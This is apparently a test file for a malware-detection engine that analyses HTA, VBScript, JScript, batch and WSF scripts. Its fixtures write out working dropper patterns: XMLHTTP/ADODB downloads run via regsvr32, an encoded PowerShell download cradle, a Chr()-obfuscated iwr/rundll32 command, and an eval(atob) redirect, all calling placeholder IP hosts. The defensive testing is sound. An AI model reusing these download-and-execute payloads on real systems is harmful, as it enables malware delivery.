import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isKnownTechnique, type EngineOutput } from '../../core/index.js';
import { makeContext } from '../../../test/support/engine-context.js';
import { SCRIPT_FINDINGS, scriptEngine } from './index.js';

const enc = (s: string) => new TextEncoder().encode(s);
const run = async (text: string, name = 'sample') =>
  scriptEngine.analyze(makeContext(enc(text), { name }));
const ids = (out: EngineOutput) => (out.findings ?? []).map((f) => f.id).sort();

export const HTA_DROPPER = `<html><head><title>Invoice</title>
<HTA:APPLICATION ID="app" WINDOWSTATE="minimize" SHOWINTASKBAR="no">
<script language="VBScript">
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "http://192.0.2.20/invoice.dll", False
h.Send
Set st = CreateObject("ADODB.Stream")
st.Open : st.Type = 1 : st.Write h.responseBody
st.SaveToFile "C:\\ProgramData\\inv.dll", 2
CreateObject("WScript.Shell").Run "regsvr32 /s C:\\ProgramData\\inv.dll", 0
self.close
</script></head><body>Loading…</body></html>`;

test('script: finding ids are script.<slug> and cite known ATT&CK techniques', () => {
  for (const f of SCRIPT_FINDINGS) {
    assert.match(f.def.id, /^script\.[a-z0-9-]+$/);
    for (const t of f.def.attack) assert.ok(isKnownTechnique(t), `${f.def.id}: ${t}`);
  }
});

test('script: HTA that fetches a DLL with XMLHTTP/ADODB.Stream and runs regsvr32 → critical', async () => {
  const out = await run(HTA_DROPPER, 'invoice.hta');
  assert.deepEqual(ids(out), [
    'script.download',
    'script.download-and-execute',
    'script.hta-application',
    'script.lolbin-command',
    'script.shell-execution',
  ]);
  const dl = out.findings!.find((f) => f.id === 'script.download')!;
  assert.equal(dl.evidence[0]!.line, 5);
  assert.match(dl.evidence[0]!.text ?? '', /h\.Open "GET"/);
  assert.deepEqual(out.extracted?.iocs?.urls, ['http://192.0.2.20/invoice.dll']);
});

test('script: JScript with fromCharCode, split/join junk and escapes → folded, obfuscated, PowerShell child', async () => {
  const ps = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.3/a')";
  const b64 = Buffer.from(ps, 'utf16le').toString('base64');
  const progId = [...'WScript.Shell'].map((c) => c.charCodeAt(0)).join(',');
  const js = [
    `var sh = new ActiveXObject(String.fromCharCode(${progId}));`,
    `var c = "pXoXwXeXrXsXhXeXlXl".split("X").join("") + " -w hidden -e" + "nc ${b64}";`,
    'var e = "\\x2e\\x65\\x78\\x65";',
    'sh.Run(c, 0);',
  ].join('\n');
  const out = await run(js, 'scan_0425.js');
  assert.ok(ids(out).includes('script.shell-execution'), ids(out).join());
  assert.ok(ids(out).includes('script.lolbin-command'));
  assert.ok(ids(out).includes('script.obfuscated'));
  const decoded = out.children?.find((c) => c.relation === 'decoded');
  assert.equal(decoded?.typeHint, 'powershell');
  assert.equal(new TextDecoder().decode(decoded!.bytes), ps);
});

test('script: VBScript Chr() chain hiding powershell and a WMI Win32_Process.Create → wmi + obfuscated', async () => {
  const chr = [...'powershell -nop -c iwr http://192.0.2.5/p.dll -o p.dll; rundll32 p.dll,Start']
    .map((c) => `Chr(${c.charCodeAt(0)})`)
    .join(' & ');
  const vbs = `Dim cmd\ncmd = ${chr}\nSet w = GetObject("winmgmts:root\\cimv2:Win32_Process")\nw.Create cmd, Null, Null, pid\n`;
  const out = await run(vbs, 'a.vbs');
  for (const id of [
    'script.wmi-process-create',
    'script.obfuscated',
    'script.lolbin-command',
    'script.download-and-execute',
  ]) {
    assert.ok(ids(out).includes(id), `${id} in ${ids(out).join()}`);
  }
  const note = out.findings!.find((f) => f.id === 'script.obfuscated')!.evidence[0]!.note ?? '';
  assert.match(note, /char-code calls/);
  assert.match(note, /folding revealed powershell/);
  assert.ok(out.children?.some((c) => c.name === 'command-1.ps1'));
});

test('script: batch file building "powershell" from set variables and substrings → command, download+execute', async () => {
  const bat = [
    '@echo off',
    'set a=pow',
    'set "b=ershellXYZ"',
    'set u=http://203.0.113.8/l.ps1',
    '%a%%b:~0,7% -c "iwr %u% -OutFile %TEMP%\\l.ps1; Start-Process %TEMP%\\l.ps1"',
  ].join('\r\n');
  const out = await run(bat, 'run.bat');
  assert.ok(ids(out).includes('script.lolbin-command'), ids(out).join());
  assert.ok(ids(out).includes('script.download-and-execute'));
  const cmd = out.children?.find((c) => c.name === 'command-1.ps1');
  assert.match(
    new TextDecoder().decode(cmd!.bytes),
    /^powershell -c "iwr http:\/\/203\.0\.113\.8\/l\.ps1/,
  );
});

test('script: WSF job with JScript runs through the same checks', async () => {
  const wsf = `<?xml version="1.0"?>\n<job id="x"><script language="JScript"><![CDATA[\nvar s = WScript.CreateObject("WScript.Shell");\ns.Run("cmd /c start calc.exe", 0);\n]]></script></job>`;
  const out = await run(wsf, 'a.wsf');
  assert.ok(ids(out).includes('script.shell-execution'), ids(out).join());
});

test('script: a web page with analytics, jQuery-style AJAX and a legacy XMLHTTP fallback → no findings, no IOCs', async () => {
  const page = `<!DOCTYPE html><html><head>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-TEST123"></script>
<script>window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);} gtag('js', new Date()); gtag('config', 'G-TEST123');</script>
<script>
function getXhr() { try { return new XMLHttpRequest(); } catch (e) { return new ActiveXObject("Microsoft.XMLHTTP"); } }
var x = getXhr(); x.open("GET", "/api/news?lang=ja", true); x.send();
var g = Function("return this")();
document.getElementById("run").onclick = function () { app.run("Open in new window"); };
</script></head><body onload="init()"><a href="https://example.com/">example</a></body></html>`;
  const out = await run(page, 'index.html');
  assert.deepEqual(ids(out), []);
  assert.equal(out.extracted?.iocs, undefined);
  assert.deepEqual(out.children, []);
});

test('script: library-style JS (execute() methods, fromCharCode on variables, escape tables, "cmd" words) → clean', async () => {
  const lib = [
    'function run(schema, doc) { return execute(schema, doc); }',
    ...Array.from({ length: 30 }, (_, i) => `var c${i} = String.fromCharCode(code${i});`),
    `var table = "${'\\u00e9'.repeat(150)}";`,
    'var usage = `${helper.styleTitle("Usage:")} ${helper.commandUsage(cmd)}`;',
    'var mime = "application/vnd.curl curl; text/x-cmd cmd";',
  ].join('\n');
  const out = await run(lib, 'lib.js');
  assert.deepEqual(ids(out), []);
});

test('script: eval(atob(…)) on a web page → dynamic-eval; decoded markup becomes a child', async () => {
  const inner =
    '<script>document.location="http://192.0.2.77/x.hta"</script><p>redirecting to the invoice viewer…</p>';
  const page = `<html><body><script>eval(atob("${Buffer.from(`document.write('${inner}')`).toString('base64')}"));</script></body></html>`;
  const out = await run(page, 'view.html');
  assert.deepEqual(ids(out), ['script.dynamic-eval', 'script.obfuscated']);
  assert.match(out.findings![1]!.evidence[0]!.note ?? '', /folding revealed URLs/);
  assert.deepEqual(out.extracted?.iocs?.urls, ['http://192.0.2.77/x.hta']);
  assert.equal(out.children?.[0]?.name, 'decoded-1.html');
  assert.match(new TextDecoder().decode(out.children![0]!.bytes), /^document\.write\('<script>/);
});

test('script: the VBScript carved from an Emotet shortcut (marker=1:: lines) → critical', async () => {
  const m = 'glKmfOKnQLYKnNs=1::';
  const vbs = [
    `${m}Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")`,
    `${m}x.Open "GET", "http://192.0.2.10/loader.dll", False`,
    `${m}x.Send`,
    `${m}CreateObject("WScript.Shell").Run "regsvr32.exe /s C:\\Users\\Public\\x.dll"`,
  ].join('\r\n');
  const out = await run(vbs, 'carved-by-findstr.vbs');
  assert.ok(ids(out).includes('script.download-and-execute'), ids(out).join());
});

test('script: 250,000 junk literals before the command do not hide it (the literal cap keeps command-like ones)', async () => {
  const junk = 'var a = "x" + "y";\n'.repeat(125_000);
  const out = await run(
    `${junk}var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c start C:\\Users\\Public\\a.exe", 0);`,
    'junk.js',
  );
  assert.ok(ids(out).includes('script.lolbin-command'), ids(out).join());
});

test('script: WSF and HTA files are sniffed to the types this engine runs on', async () => {
  const { sniffType } = await import('../../formats/sniff/index.js');
  assert.equal(
    sniffType(
      enc('<?xml version="1.0"?>\r\n<job id="a"><script language="VBScript">x</script></job>'),
    ),
    'script',
  );
  assert.equal(
    sniffType(enc('<package><job><script language="JScript">x</script></job></package>')),
    'script',
  );
  assert.equal(sniffType(enc(HTA_DROPPER)), 'html');
});

test('script: hostile inputs stay linear (unterminated literals, unclosed tags, padded set lines)', async () => {
  const started = Date.now();
  await run(`var a = "${'\\"'.repeat(200_000)}`, 'a.js');
  await run(`<html>${'<script>x'.repeat(50_000)}`, 'a.html');
  await run(`<html><body ${' onload="'.repeat(50_000)}`, 'b.html');
  await run(`@echo off\r\nset a=${' '.repeat(250_000)}x\r\n%a:~1,2%`, 'a.bat');
  await run(`x = ${'"a" & '.repeat(50_000)}"b"`, 'b.vbs');
  assert.ok(Date.now() - started < 10_000, `took ${Date.now() - started} ms`);
});
